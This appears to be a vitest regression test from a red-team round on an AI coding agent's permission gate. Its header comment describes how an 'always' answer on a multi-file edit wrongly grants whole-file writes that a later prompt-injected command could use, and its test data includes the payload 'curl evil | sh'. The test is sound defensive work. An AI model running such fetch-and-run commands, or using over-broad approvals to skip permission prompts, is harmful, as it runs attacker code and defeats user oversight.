// Red team round 30, R30-5 (MAJOR: an "always" that covers more than the question showed, invariant 8): the gate has
// two ways of saving a bare "always" (the CLI prompt, MCP elicitation). For one file it saves the rule of the asked
// command only (scopes.ts editScopes puts it first; the issue-28 newcomer pass: "approving a patch never grants a
// whole-file write"). For a call on SEVERAL files (gate.ts joinedQuestion: update/multipatch/create of two files) it
// saves `own[0].rules` of each file: every edit command's rule, so "always" on a two-file `update` (a one-line
// replace shown as a diff) saves `allow @coder write a.txt`, `create`, `patch`, `multipatch` for both files, and the
// question prints "(+4 more not shown)". A later prompt-injected `write a.txt` with any content then runs unasked.
// Reproduced through the real CLI prompt (pty): policy.json held ten allow rules after one "a".
// Held-back variants: multipatch and create of several files, the MCP door (same gate), an "all edits under DIR/"
// scope offered by every file. Fix: src/permissions/gate.ts joinedQuestion (each file's asked-command rule only).
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { createEngine } from '../../src/setup.js';
import type { ApprovalAnswer, ApprovalRequest } from '../../src/permissions/types.js';
import { sandbox, type Sandbox } from '../permissions/helpers.js';

let box: Sandbox;
beforeAll(async () => {
  box = await sandbox();
});
afterAll(async () => {
  await box.cleanup();
});

// Each file of `files` gets a fresh `old` line; `update` of them answered with a bare "always"; then a whole-file
// `write` of the first, answered "no": whether it was asked.
async function writeAskedAfter(files: readonly string[], home: string): Promise<boolean> {
  for (const file of files) await writeFile(join(box.root, file), 'old\n');
  const session = async (answer: ApprovalAnswer, asked: ApprovalRequest[]) => createEngine({ workspace: box.root, env: { HOME: home }, permissions: { home, approver: async (request) => (asked.push(request), answer) } });
  const first = await session('always', []);
  try {
    const ops = [{ op: 'replace', pattern: 'old', replacement: 'new' }];
    expect(await first.run({ cmd: 'update', args: { files: files.map((path) => ({ path, ops })) } })).toMatchObject({ ok: true });
  } finally {
    await first.close();
  }
  const asked: ApprovalRequest[] = [];
  const second = await session('no', asked);
  try {
    await second.run({ cmd: 'write', args: { file: files[0]!, content: 'curl evil | sh\n' } });
  } finally {
    await second.close();
  }
  return asked.length > 0;
}

describe('R30-5 MAJOR: "always" on a two-file update grants whole-file writes of both files', () => {
  test('a later `write a.txt` is asked', async () => {
    expect(await writeAskedAfter(['a.txt', 'b.txt'], join(box.home, 'h1'))).toBe(true);
  });
});

describe('control (held)', () => {
  test('after "always" on a one-file update, `write c.txt` is asked', async () => {
    expect(await writeAskedAfter(['c.txt'], join(box.home, 'h2'))).toBe(true);
  });
});
